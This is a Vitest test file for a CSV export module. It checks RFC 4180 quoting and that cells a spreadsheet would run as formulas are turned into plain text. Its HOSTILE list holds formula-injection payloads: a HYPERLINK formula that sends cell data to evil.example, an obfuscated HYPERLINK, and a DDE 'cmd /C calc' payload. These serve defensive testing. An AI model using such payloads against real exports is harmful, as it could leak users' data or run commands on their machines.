import { describe, expect, it } from 'vitest';
import { formulaCells, spreadsheetCells } from '../../../test/support/spreadsheet.ts';
import { csvCell, csvRecord, csvTable } from './csv.ts';

/** Values a guest or a signer may type, each trying to become a formula somewhere. */
const HOSTILE = [
  'Calle Mayor 1;=HYPERLINK(CHAR(104)&CHAR(116)&CHAR(116)&CHAR(112)&A1)',
  '=HYPERLINK("http://evil.example/?"&A1,"Ver")',
  '+34600111222',
  '-1+2',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  'José\t@SUM(1+1)',
  'Núñez;+cmd|" /C calc"!A0',
  'a,"b";c\t-d\r\n=e',
];

describe('csv', () => {
  it('quotes every cell, doubles its quotes and ends records with CRLF (RFC 4180)', () => {
    expect(csvCell('plain')).toBe('"plain"');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvRecord(['x', 1, null, true, undefined])).toBe('"x","1","","true",""\r\n');
    expect(csvTable(['a', 'b'], [['1', 2]])).toBe('"a","b"\r\n"1","2"\r\n');
  });

  it('turns text a spreadsheet would run into plain text', () => {
    expect(csvCell('=HYPERLINK("http://evil")')).toBe(`"'=HYPERLINK(""http://evil"")"`);
    expect(csvCell('+34600111222')).toBe(`"'+34600111222"`);
    expect(csvCell('-1+2')).toBe(`"'-1+2"`);
    expect(csvCell('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
    expect(csvCell('\tcmd')).toBe(`"'\tcmd"`);
    expect(csvCell('\rcmd')).toBe(`"'\rcmd"`);
    expect(csvCell('a=b')).toBe('"a=b"');
    // A number the server computed is no formula.
    expect(csvCell(-3)).toBe('"-3"');
  });

  it.each([',', ';', '\t'] as const)(
    'gives a spreadsheet splitting on %j no formula cell',
    (delimiter) => {
      const csv = csvTable(
        ['id', 'address', 'note'],
        HOSTILE.map((value, index) => [index, value, `x ${value}`]),
      );
      const cells = spreadsheetCells(csv, delimiter);
      // Read with another separator, a line break inside a value ends the record there.
      if (delimiter === ',') expect(cells).toHaveLength(HOSTILE.length + 1);
      expect(cells.flat().join('')).toContain('HYPERLINK');
      expect(formulaCells(cells)).toEqual([]);
    },
  );

  it('reads back each value whole with a comma, an apostrophe before each formula', () => {
    const [, ...rows] = spreadsheetCells(
      csvTable(
        ['value'],
        HOSTILE.map((value) => [value]),
      ),
      ',',
    );
    expect(rows.map(([cell]) => cell)).toEqual([
      "Calle Mayor 1;'=HYPERLINK(CHAR(104)&CHAR(116)&CHAR(116)&CHAR(112)&A1)",
      `'=HYPERLINK("http://evil.example/?"&A1,"Ver")`,
      "'+34600111222",
      "'-1+2",
      "'@SUM(A1:A9)",
      "'\t'=1+1",
      "'\r'=1+1",
      "José\t'@SUM(1+1)",
      `Núñez;'+cmd|" /C calc"!A0`,
      `a,"b";c\t'-d\r\n'=e`,
    ]);
    expect(csvCell('Calle Mayor 1, 2º')).toBe('"Calle Mayor 1, 2º"');
  });

  it('the spreadsheet reading finds the formula a value would start after a separator', () => {
    // Unquoted, as the writer wrote a cell without a comma, quote or line break.
    expect(formulaCells(spreadsheetCells(`1,${HOSTILE[0]}\r\n`, ';'))).toEqual([
      '=HYPERLINK(CHAR(104)&CHAR(116)&CHAR(116)&CHAR(112)&A1)',
    ]);
    expect(formulaCells(spreadsheetCells('1,José\t@SUM(1+1)\r\n', '\t'))).toEqual(['@SUM(1+1)']);
    // Quoted but not neutralised: a quote opens a quoted cell only at the record's start.
    expect(formulaCells(spreadsheetCells('"1","Calle;=1+1"\r\n', ';'))).toEqual(['=1+1"']);
  });
});
